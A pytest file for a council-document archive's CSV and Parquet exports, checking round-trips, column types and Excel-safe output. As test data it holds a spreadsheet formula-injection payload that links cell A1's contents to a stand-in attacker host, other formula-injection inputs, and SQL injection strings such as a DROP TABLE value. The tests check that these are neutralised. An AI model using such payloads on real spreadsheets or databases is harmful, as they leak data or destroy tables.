"""Tables as CSV and Parquet: what is in the archive comes out again, whatever it is."""

import csv
import io
import json
import sys
from collections.abc import Iterator
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path
from typing import Any, get_args, get_origin, get_type_hints

import duckdb
import pandas as pd
import pyarrow.parquet as pq
import pytest

from harvester.archive import Archive, export
from harvester.archive.descriptions import DESCRIPTIONS
from harvester.errors import HarvesterError
from harvester.exports.csv_table import EXCEL_CELL, write_csv
from harvester.exports.placing import ExportError
from harvester.exports.tables import LEFT_OUT, TABLES, write_parquet
from harvester.page import Listed
from harvester.records import RECORD_TYPES

sys.path.append(str(Path(__file__).resolve().parents[1] / "archive"))
from archive_pages import SOURCE, day, harvest, list_page, meeting_page, paper_page, visit

FORMULA = '=HYPERLINK("https://boese.example/?"&A1;"Bebauungsplan")'
LINES = 'Erste Zeile, "wörtlich"; zweite\nZeile\r\nDritte \' Zeile\t\\N \\"'
ODD = "\x00\x1b[31m\u202e\u2028😀 NULL NaN ''"
FINDING = """
INSERT INTO finding (run_id, at, severity, source_id, url, code, message)
VALUES (?, ?, 'info', 'town', 'https://ris.example/', 'odd', ?)
"""
OTHER = replace(SOURCE, id="other", body_id="other", body_name="Other", spider="other")


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An archive with a row in every table but frontier, of two sources."""
    path = tmp_path_factory.mktemp("tables") / "a.sqlite"
    listed = [Listed("paper", f"town/paper/{n}", f"2009-06-0{n}") for n in (1, 9)]
    with Archive.open(path) as archive:
        harvest(
            archive,
            day(1),
            paper_page(1, name="Vorher", text=LINES, authors=['"Rat", Herne', "=1+1"]),
            paper_page(2, name=ODD, public=None, authors=None, paper_type=None, text=None),
            meeting_page(),
            list_page(*listed),
        )
        run = harvest(archive, day(2), paper_page(1, name=FORMULA, text=LINES, authors=[]))
        begun = archive.begin_run(OTHER, "crawl", {}, "harvester 0.1.0", day(3))
        page = paper_page(5)
        archive.store(begun, [visit(_of_other(page), day(3))], [])
        archive.finish_run(begun, "incomplete", "so far", day(3))
        _write(
            archive,
            ("UPDATE meeting SET start = '2009-06-03T16:00:00+02:00', cancelled = 1", ()),
            (FINDING, (run.id, day(2), "-1")),
            (
                "INSERT INTO file_version VALUES ('town/paper/1/file/1', 'ab', NULL, ?, ?)",
                (day(1), day(2)),
            ),
            (
                "INSERT INTO absence VALUES ('paper', 'town/paper/9', 'town', 'unlisted', 1, ?, ?)",
                (day(2), run.id),
            ),
        )
    return path


def _of_other(page: Any) -> Any:
    """The same page as of the other source: all ids begin with its name."""
    for record in page.records:
        for name, value in record.values().items():
            if isinstance(value, str):
                setattr(record, name, value.replace("town/", "other/"))
    page.children = [
        replace(child, owner_id=child.owner_id.replace("town/", "other/"))
        for child in page.children
    ]
    return page


def _write(archive: Archive, *statements: tuple[str, tuple[Any, ...]]) -> None:
    for statement, values in statements:
        archive.db.conn.execute(statement, values)


@pytest.fixture
def held(made: Path) -> Iterator[Archive]:
    with Archive.open(made, mode="read") as archive:
        yield archive


@pytest.fixture
def own(made: Path, tmp_path: Path) -> Iterator[Archive]:
    """A copy of the archive to write into."""
    path = tmp_path / "own.sqlite"
    path.write_bytes(made.read_bytes())
    with Archive.open(path) as archive:
        yield archive


def as_csv(held: Archive, table: str, **options: Any) -> bytes:
    out = io.BytesIO()
    write_csv(held, table, out, **options)
    return out.getvalue()


def cells(data: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline=""), delimiter=delimiter))


def rows(held: Archive, table: str) -> list[tuple[Any, ...]]:
    return list(held.db.conn.execute(f'SELECT * FROM "{table}"'))


def dicts(held: Archive, table: str, **options: Any) -> list[dict[str, str]]:
    header, *found = cells(as_csv(held, table, **options), ";" if options.get("excel") else ",")
    return [dict(zip(header, row, strict=True)) for row in found]


def parquet(held: Archive, table: str, folder: Path) -> Any:
    path = folder / f"{table}.parquet"
    count = write_parquet(held, table, path)
    found = pq.read_table(path)
    assert found.num_rows == count
    return found


def test_every_table_is_exported_or_left_out_for_a_reason(held: Archive) -> None:
    kinds = "SELECT name FROM pragma_table_list WHERE schema = 'main' AND type <> 'shadow'"
    there = {name for (name,) in held.db.conn.execute(kinds)} - {"sqlite_schema"}
    assert there == set(TABLES) | set(LEFT_OUT)
    assert not set(TABLES) & set(LEFT_OUT)


def test_the_archive_of_these_tests_has_rows_everywhere(held: Archive) -> None:
    empty = {table for table in TABLES if not rows(held, table)}
    assert empty == {"meeting_file", "agenda_item_file"}


def test_csv_to_the_byte(held: Archive) -> None:
    assert as_csv(held, "body", source_id="town") == (
        b"id,name,ags,website\r\ntown,Stadt Town,05999000,https://www.town.example/\r\n"
    )
    assert as_csv(held, "meeting_file").count(b"\r\n") == 1


@pytest.mark.parametrize("table", TABLES)
def test_csv_is_what_is_held(held: Archive, table: str) -> None:
    header, *found = cells(as_csv(held, table))
    cursor = held.db.conn.execute(f'SELECT * FROM "{table}"')
    assert header == [column[0] for column in cursor.description]
    expected = [["" if cell is None else str(cell) for cell in row] for row in cursor]
    assert sorted(found) == sorted(expected)


def test_csv_is_in_order(held: Archive) -> None:
    assert [row["id"] for row in dicts(held, "paper")] == [
        "other/paper/5",
        "town/paper/1",
        "town/paper/2",
    ]
    assert [row["Schritt"] for row in dicts(held, "beratungsfolge", source_id="town")] == [
        *("1", "2"),
        *("1", "2"),
    ]
    assert [row["Kommune"] for row in dicts(held, "beratungsfolge")] == [
        *("Other", "Other"),
        *("Stadt Town",) * 4,
    ]
    assert [(row["source_id"], row["record"], row["month"]) for row in dicts(held, "coverage")] == [
        ("town", "paper", "2009-06")
    ]


def test_hostile_text_comes_out_as_it_is(held: Archive, tmp_path: Path) -> None:
    expected = ["Kommunale Familienförderung", FORMULA, ODD]
    assert [row["name"] for row in dicts(held, "paper")] == expected
    assert [row["text"] for row in dicts(held, "paper_section", source_id="town")] == [LINES, ""]
    names = parquet(held, "paper", tmp_path).column("name").to_pylist()
    assert names == expected
    write_parquet(held, "paper_section", tmp_path / "s.parquet", source_id="town")
    found = duckdb.sql(f"SELECT text FROM '{tmp_path}/s.parquet' ORDER BY id").fetchall()
    assert found == [(LINES,), (None,)]


def test_csv_for_pandas_and_duckdb(held: Archive, tmp_path: Path) -> None:
    path = tmp_path / "paper.csv"
    path.write_bytes(as_csv(held, "paper"))
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert list(frame["name"])[1:] == [FORMULA, ODD]
    frame = pd.read_csv(path)
    assert frame["public"].isna().tolist() == [False, False, True]
    assert frame["gone_at"].isna().all()
    assert json.loads(frame["authors"][1]) == []
    query = f"SELECT reference, name, public, paper_type FROM read_csv('{path}') ORDER BY id"
    assert duckdb.sql(query).fetchall()[1:] == [
        ("2009/0001", FORMULA, 1, "report"),
        ("2009/0002", ODD, None, None),
    ]


def test_for_excel(held: Archive) -> None:
    data = as_csv(held, "paper", excel=True)
    assert data.startswith(b"\xef\xbb\xbfid;body_id;reference;name;")
    papers = dicts(held, "paper", excel=True)
    assert papers[1]["name"] == f"'{FORMULA}"
    assert papers[1]["public"] == "1"
    assert papers[0]["authors"] == '["Frau Müller", "FB 42"]'
    assert dicts(held, "finding", excel=True)[-1]["message"] == "'-1"


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+49 2323", "'+49 2323"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tRat", "'\tRat"),
        ("\rRat", "'\rRat"),
        ("\nRat", "'\nRat"),
        ("  =1", "'  =1"),
        ("\u200b\ufeff=1", "'\u200b\ufeff=1"),
        ("\xa0=1", "'\xa0=1"),
        ("\x00=1", "'\x00=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20A", "'\uff20A"),
        ("a=1", "a=1"),
        ("20131987", "20131987"),
        # days, times and numbers as Excel in Germany reads them
        ("2.1", "'2.1"),
        ("2.1.", "'2.1."),
        ("12.05.2009", "'12.05.2009"),
        ("1-2", "'1-2"),
        ("1.234", "'1.234"),
        ("1,50", "'1,50"),
        ("10:30", "'10:30"),
        ("3/2014", "'3/2014"),
        ("12/25", "'12/25"),
        ("3 / 2014", "'3 / 2014"),
        ("2014/03", "'2014/03"),
        ("2014-03", "'2014-03"),
        ("1/2/2014", "'1/2/2014"),
        ("3. Mai", "'3. Mai"),
        ("Mai 2014", "'Mai 2014"),
        ("3. März 2014", "'3. März 2014"),
        ("1E5", "'1E5"),
        ("0012", "'0012"),
        ("123456789012", "'123456789012"),
        ("5 %", "'5 %"),
        # what it leaves alone, and days that it may read
        ("2014-03-28", "2014-03-28"),
        ("2009/0346", "2009/0346"),
        ("0346/2009/1", "0346/2009/1"),
        ("02323-1600", "02323-1600"),
        ("2014-03-28T10:00:00Z", "2014-03-28T10:00:00Z"),
        ("Ö 2.1", "Ö 2.1"),
        ("20", "20"),
        ("0", "0"),
        ("3 Mailänder", "3 Mailänder"),
        ("2.1 Haushalt", "2.1 Haushalt"),
        ("'quoted", "'quoted"),
        ("„=1“", "„=1“"),
        (" Rat", " Rat"),
        (None, ""),
    ],
)
def test_nothing_is_a_formula_or_a_day_in_excel(own: Archive, cell: str | None, shown: str) -> None:
    _write(own, ("UPDATE paper SET legal_basis = ?", (cell,)))
    assert {row["legal_basis"] for row in dicts(own, "paper", excel=True)} == {shown}
    assert {row["legal_basis"] for row in dicts(own, "paper")} == {cell or ""}


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a" * EXCEL_CELL, "a" * 32_767),
        ("a" * 32_768, "a" * 32_763 + " […]"),
        ("=" * 32_767, "'" + "=" * 32_762 + " […]"),  # the apostrophe needs room too
        ("😀" * 16_383 + "a", "😀" * 16_383 + "a"),  # each counts twice
        ("😀" * 16_384, "😀" * 16_381 + " […]"),  # the one that would be cut in half is left out
    ],
)
def test_what_excel_cannot_hold_is_cut_and_counted(own: Archive, text: str, shown: str) -> None:
    _write(own, ("UPDATE paper SET legal_basis = ? WHERE id = 'town/paper/1'", (text,)))
    out = io.BytesIO()
    written = write_csv(own, "paper", out, excel=True)
    assert (written.rows, written.cut) == (3, int(shown.endswith("[…]")))
    assert dicts(own, "paper", excel=True)[1]["legal_basis"] == shown
    plain = io.BytesIO()
    assert write_csv(own, "paper", plain).cut == 0
    assert cells(plain.getvalue())[2][16] == text


@pytest.mark.parametrize("table", TABLES)
def test_parquet_has_every_row_and_column(held: Archive, table: str, tmp_path: Path) -> None:
    found = parquet(held, table, tmp_path)
    expected = rows(held, table)
    assert found.num_rows == len(expected)
    counts = f"SELECT count(*) FROM '{tmp_path}/{table}.parquet'"
    assert duckdb.sql(counts).fetchall() == [(len(expected),)]
    names = [column.name for column in export.table_columns(held, table)]
    assert found.column_names == names
    for index, name in enumerate(names):
        nulls = sum(row[index] is None for row in expected)
        assert (name, found.column(name).null_count) == (name, nulls)


def types(found: Any) -> dict[str, str]:
    return {field.name: str(field.type) for field in found.schema}


def test_parquet_types_of_a_paper(held: Archive, tmp_path: Path) -> None:
    found = types(parquet(held, "paper", tmp_path))
    strings = {
        *("id", "body_id", "reference", "name", "paper_type_raw", "paper_type", "status_raw"),
        *("authors_raw", "file_number", "lead_department", "clerk", "legal_basis"),
        *("source_id", "source_url", "gone_reason", "parser_version", "content_hash"),
    }
    lists = {"authors", "participating_departments", "decision_body", "related_references"}
    times = {"first_seen", "last_seen", "updated_at", "gone_at"}
    assert {name for name, kind in found.items() if kind == "string"} == strings
    assert {name for name, kind in found.items() if kind.startswith("list<")} == lists
    assert {name for name, kind in found.items() if kind == "timestamp[us]"} == times
    assert {name: found[name] for name in found.keys() - strings - lists - times} == {
        "public": "bool",
        "date": "date32[day]",
        "snapshot_id": "int64",
    }


def test_parquet_types_of_views_and_bookkeeping(held: Archive, tmp_path: Path) -> None:
    assert types(parquet(held, "coverage", tmp_path)) == {
        "source_id": "string",
        "record": "string",
        "month": "string",
        "listed": "int64",
        "held": "int64",
        "missing": "list<element: string>",
        "last_listed": "timestamp[us]",
    }
    view = types(parquet(held, "beratungsfolge", tmp_path))
    assert view.pop("Schritt") == "int64"
    assert set(view.values()) == {"string"}
    meeting = types(parquet(held, "meeting", tmp_path))
    assert (meeting["start"], meeting["date"], meeting["cancelled"]) == (
        "string",
        "date32[day]",
        "bool",
    )
    ledger = types(parquet(held, "ledger", tmp_path))
    assert (ledger["listed"], ledger["missing_sample"]) == ("int64", "list<element: string>")


def test_parquet_types_are_those_of_the_records(held: Archive, tmp_path: Path) -> None:
    """A new boolean or list of the records must be told to the export."""
    kinds = {bool: "bool", int: "int64", list: "list<element: string>"}
    for cls in RECORD_TYPES:
        found = types(parquet(held, cls.record, tmp_path))
        for name, hint in get_type_hints(cls).items():
            if name != "record":
                plain = next((t for t in get_args(hint) if t is not type(None)), hint)
                kind = kinds.get(get_origin(plain) or plain)
                assert kind is None or (name, found[name]) == (name, kind)


def test_what_is_described_as_utc_is_a_time(held: Archive, tmp_path: Path) -> None:
    for table in TABLES:
        found = types(parquet(held, table, tmp_path))
        described = {name for name, text in DESCRIPTIONS[table][1].items() if "(UTC)" in text}
        times = {name for name, kind in found.items() if kind == "timestamp[us]"}
        assert (table, times) == (table, described)


def test_parquet_for_duckdb(held: Archive, tmp_path: Path) -> None:
    parquet(held, "paper", tmp_path)
    parquet(held, "meeting", tmp_path)
    query = """
        SELECT id, name, public, authors, date, first_seen, updated_at, gone_at
        FROM '{}/paper.parquet' WHERE source_id = 'town' ORDER BY id
    """
    first, second = (datetime.fromisoformat(day(n)).replace(tzinfo=None) for n in (1, 2))
    assert duckdb.sql(query.format(tmp_path)).fetchall() == [
        ("town/paper/1", FORMULA, True, [], date(2009, 6, 1), first, second, None),
        ("town/paper/2", ODD, None, None, None, first, first, None),
    ]
    query = f"SELECT date, start, cancelled, public FROM '{tmp_path}/meeting.parquet'"
    assert duckdb.sql(query).fetchall() == [
        (date(2009, 6, 3), "2009-06-03T16:00:00+02:00", True, None)
    ]
    everything = duckdb.sql(f"SELECT * FROM '{tmp_path}/paper.parquet'").fetchall()
    assert len(everything) == 3  # no zone in it for which DuckDB would need another package


def test_parquet_for_pandas(held: Archive, tmp_path: Path) -> None:
    parquet(held, "paper", tmp_path)
    frame = pd.read_parquet(tmp_path / "paper.parquet").set_index("id")
    assert list(frame.loc["other/paper/5", "authors"]) == ["Frau Müller", "FB 42"]
    assert frame.loc["town/paper/2", "authors"] is None
    assert pd.isna(frame.loc["town/paper/2", "name"]) is False
    assert str(frame["first_seen"].dtype) == "datetime64[us]"
    assert frame["gone_at"].isna().all()


def test_parquet_tells_what_its_columns_mean(held: Archive, tmp_path: Path) -> None:
    schema = parquet(held, "paper", tmp_path).schema
    assert schema.metadata[b"description"].decode() == (
        "Proposals (Vorlagen, Drucksachen), motions, questions, notices."
    )
    assert schema.field("clerk").metadata[b"description"] == b"The clerk (Bearbeiter)."


def test_parquet_is_compressed(held: Archive, tmp_path: Path) -> None:
    write_parquet(held, "paper", tmp_path / "p.parquet")
    found = pq.ParquetFile(tmp_path / "p.parquet").metadata.row_group(0).column(0)
    assert found.compression == "ZSTD"


@pytest.mark.parametrize(("limit", "value"), [("_ROWS", 100), ("_CHARACTERS", 20_000)])
def test_what_does_not_fit_into_memory_goes_in_batches(
    own: Archive, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, limit: str, value: int
) -> None:
    _write(own, ("DELETE FROM finding", ()))
    own.db.conn.executemany(FINDING, [(1, day(1), f"{n:0100}") for n in range(1, 451)])
    whole = as_csv(own, "finding")
    monkeypatch.setattr(export, limit, value)
    assert as_csv(own, "finding") == whole
    assert write_parquet(own, "finding", tmp_path / "f.parquet") == 450
    found = pq.ParquetFile(tmp_path / "f.parquet")
    assert found.num_row_groups >= 3
    assert [int(m) for m in found.read().column("message").to_pylist()] == list(range(1, 451))


@pytest.mark.parametrize(
    ("table", "column", "value"),
    [
        ("paper", "date", "2009-6-1"),
        ("paper", "date", "2009-02-30"),
        ("paper", "updated_at", "2026-01-01"),
        ("paper", "updated_at", "gestern"),
        ("paper", "authors", '{"a": 1}'),
        ("paper", "authors", "[1]"),
        ("paper", "authors", '["\\ud800"]'),
    ],
)
def test_a_value_that_is_not_what_it_should_be_is_no_null(
    own: Archive, tmp_path: Path, table: str, column: str, value: str
) -> None:
    _write(own, (f"UPDATE {table} SET {column} = ? WHERE id = 'town/paper/2'", (value,)))
    folder = tmp_path / "out"
    folder.mkdir()
    with pytest.raises(ExportError, match=rf"^{table}\.{column} holds .*--format csv") as caught:
        write_parquet(own, table, folder / "x.parquet")
    assert "\n" not in str(caught.value)
    assert list(folder.iterdir()) == []
    assert value in [row[column] for row in dicts(own, table)]


def test_a_source_is_the_whole_less_the_others(held: Archive) -> None:
    for table in TABLES:
        header, *everything = cells(as_csv(held, table))
        parts = [cells(as_csv(held, table, source_id=name))[1:] for name in ("town", "other")]
        if table != "schema_description":
            assert (table, sorted(parts[0] + parts[1])) == (table, sorted(everything))
        assert cells(as_csv(held, table, source_id="x' OR 1 --"))[0] == header
    assert dicts(held, "paper", source_id="' OR 1 --") == []
    assert [row["id"] for row in dicts(held, "paper", source_id="other")] == ["other/paper/5"]
    assert [row["record_id"] for row in dicts(held, "derived", source_id="other")] == []


def test_an_unknown_table_is_an_error(held: Archive, tmp_path: Path) -> None:
    for name in ("person", 'paper"; DROP TABLE paper; --', ""):
        with pytest.raises(KeyError):
            as_csv(held, name)
        with pytest.raises(KeyError):
            write_parquet(held, name, tmp_path / "x.parquet")


def test_without_pyarrow_it_says_what_to_install(
    held: Archive, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import harvester.exports

    monkeypatch.setitem(sys.modules, "pyarrow", None)
    monkeypatch.delitem(sys.modules, "harvester.exports.parquet", raising=False)
    monkeypatch.delattr(harvester.exports, "parquet", raising=False)
    with pytest.raises(HarvesterError, match=r"pip install --editable '.\[parquet\]'"):
        write_parquet(held, "paper", tmp_path / "x.parquet")
    assert list(tmp_path.iterdir()) == []
